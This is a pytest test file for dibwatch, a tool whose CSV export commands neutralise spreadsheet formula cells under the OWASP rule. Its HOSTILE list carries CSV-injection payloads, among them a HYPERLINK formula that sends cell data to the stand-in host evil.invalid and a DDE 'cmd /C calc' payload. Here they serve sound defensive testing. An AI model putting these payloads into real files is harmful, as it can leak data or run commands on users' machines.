"""The one CSV writer: formula cells neutralised (OWASP) in every CSV dibwatch writes.

One test per writer: ``screen --output``, ``lists export --format csv`` and ``rank --output``
(the last two, like ``countries export``, through the engine's ``copy_to``, tested on its
own too), and the report's evidence CSVs; the web job results are tested in
tests/web/test_jobs.py."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dibwatch.cli import app
from dibwatch.csvout import neutralise, write_csv
from dibwatch.demo import demo_list_files, run_demo
from dibwatch.engine import DuckDBEngine
from dibwatch.report.dossier import write_evidence_csv
from dibwatch.risk import rank_firms
from dibwatch.workspace import Workspace

runner = CliRunner(env={"COLUMNS": "200"})

# Cells from the hostile data of the issue, each a formula to a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    # Plain numbers stay numbers: a spreadsheet reads them as numbers, never as formulas.
    ("-12.5", "-12.5"), ("+7", "+7"), ("-1e-3", "-1e-3"), (-0.25, -0.25), (3, 3),
    # Only the first character counts; the rest of the cell is data.
    ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, ""), ("ООО =", "ООО ="),
])
def test_owasp_rule(cell: object, written: object) -> None:
    assert neutralise(cell) == written


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_safe(path: Path, must_contain: list[str]) -> None:
    cells = _cells(path)
    joined = "\n".join(cells)
    for raw in must_contain:
        assert "'" + raw in joined, f"{raw!r} not written neutralised in {path.name}"
    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
           or (c.startswith("-") and not _is_number(c))]
    assert not bad, f"formula cells in {path.name}: {bad[:5]}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_write_csv_round_trip(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert write_csv(out, ["a", "b"], [[h, i] for i, h in enumerate(HOSTILE)]) == len(HOSTILE)
    _assert_safe(out, HOSTILE)


def test_private_files_are_0600(tmp_path: Path) -> None:
    out = tmp_path / "p.csv"
    write_csv(out, ["a"], [["x"]], private=True)
    assert out.stat().st_mode & 0o777 == 0o600


def test_engine_copy_to_csv(tmp_path: Path) -> None:
    engine = DuckDBEngine(":memory:")
    out = tmp_path / "copy.csv"
    engine.copy_to("SELECT * FROM (VALUES (1, ?, -2.5), (2, ?, NULL)) t(a, b, c) ORDER BY a",
                   str(out), "csv", [HOSTILE[0], HOSTILE[3]])
    assert out.read_text("utf-8").splitlines() == [
        "a,b,c", "1,\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"click\"\")\",-2.5",
        "2,'-2+3,"]


def _hostile_list(path: Path) -> Path:
    with demo_list_files()[0].open(encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, first = rows[0], rows[1]
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh, quoting=csv.QUOTE_ALL)
        out.writerow(header)
        for i, name in enumerate(HOSTILE[:4]):
            row = dict(zip(header, first, strict=True))
            row.update({"_id": f"hostile-{i}", "name": name, "alt_names": "",
                        "addresses": "@Moscow", "ids": ""})
            out.writerow([row[c] for c in header])
    return path


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small demo world (ranked) plus a list whose names are formulas."""
    base = tmp_path_factory.mktemp("csv-world")
    db = base / "ws.duckdb"
    with Workspace(db) as ws:
        run_demo(ws, base / "world", shipments=1500)
        rank_firms(ws)
    result = runner.invoke(app, ["lists", "load", str(_hostile_list(base / "hostile.csv")),
                                 "--source", "hostile", "--workspace", str(db)])
    assert result.exit_code == 0, result.output
    return db


def test_lists_export_csv(world: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    res = runner.invoke(app, ["lists", "export", "--format", "csv", "-o", str(out),
                              "--source", "hostile", "--workspace", str(world)])
    assert res.exit_code == 0, res.output
    # Name fields are cleaned at load (brackets and quotes split off aliases): the captions
    # as stored are what the export writes.
    with Workspace(world, read_only=True) as ws:
        captions = [c for (c,) in ws.engine.query(
            "SELECT caption FROM entities WHERE snapshot_id = (SELECT max(snapshot_id) FROM "
            "snapshots WHERE source = 'hostile')")]
    risky = [c for c in captions if c.startswith(("=", "+", "@", "-"))]
    assert len(risky) >= 3, captions
    _assert_safe(out, [*risky, "@Moscow"])


def test_screen_output_csv(world: Path, tmp_path: Path) -> None:
    parties = tmp_path / "parties.csv"
    parties.write_text("name,note\n" + "".join(
        f'"{h.replace(chr(34), chr(34) * 2)}",{n}\n'
        for h, n in zip(HOSTILE[:4], ["=1+1", "+1+1", "@x", "-1+1"], strict=True)),
        encoding="utf-8")
    out = tmp_path / "screened.csv"
    res = runner.invoke(app, ["screen", "--input", str(parties), "--output", str(out),
                              "--workspace", str(world)])
    assert res.exit_code == 0, res.output
    _assert_safe(out, [*HOSTILE[:4], "=1+1", "+1+1", "@x", "-1+1"])


def test_rank_output_csv(world: Path, tmp_path: Path) -> None:
    with Workspace(world) as ws:
        firm = ws.engine.scalar("SELECT firm_id FROM firm_scores ORDER BY rank LIMIT 1")
        ws.engine.execute("UPDATE firms SET caption = ? WHERE firm_id = ?", [HOSTILE[1], firm])
    out = tmp_path / "ranked.csv"
    res = runner.invoke(app, ["rank", "--output", str(out), "--workspace", str(world)])
    assert res.exit_code == 0, res.output
    _assert_safe(out, [HOSTILE[1]])


def test_report_evidence_csv(world: Path, tmp_path: Path) -> None:
    with Workspace(world) as ws:
        run_id, firm_id = ws.engine.query(
            "SELECT f.run_id, f.firm_id FROM risk_evidence e JOIN risk_flags f "
            "USING (run_id, flag_no) WHERE e.load_id IS NOT NULL "
            "ORDER BY f.run_id DESC LIMIT 1")[0]
        ws.engine.execute(
            "UPDATE shipments SET description = ?, exporter_name = ? WHERE (load_id, line_no) "
            "IN (SELECT (e.load_id, e.line_no) FROM risk_evidence e JOIN risk_flags f "
            "USING (run_id, flag_no) WHERE f.run_id = ? AND f.firm_id = ?)",
            [HOSTILE[0], HOSTILE[2], run_id, firm_id])
        out = tmp_path / "evidence.csv"
        assert write_evidence_csv(ws.engine, run_id, firm_id, out) > 0
    _assert_safe(out, [HOSTILE[0], HOSTILE[2]])
